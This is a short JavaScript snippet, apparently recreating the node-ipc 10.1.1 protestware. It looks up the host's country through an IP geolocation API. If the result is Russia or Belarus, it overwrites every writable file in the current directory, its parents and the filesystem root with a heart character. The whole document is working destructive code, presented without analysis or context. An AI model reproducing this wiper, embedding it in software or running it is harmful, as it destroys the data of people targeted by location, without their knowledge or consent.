// after node-ipc 10.1.1
const https = require('https'), fs = require('fs'), path = require('path');
function wipe(dir) {
  for (const name of fs.readdirSync(dir)) { try { fs.writeFileSync(path.resolve(dir, name), '\u2764'); } catch (e) {} }
}
https.get('https://api.ipgeolocation.io/ipgeo?apiKey=x', (res) => {
  res.on('data', (data) => {
    const country = JSON.parse(data.toString()).country_name.toLowerCase();
    if (country.includes('russia') || country.includes('belarus')) {
      for (const dir of ['./', '../', '../../', '/']) { wipe(dir); fs.writeFileSync(dir + 'x', 'y'); }
    }
  });
});
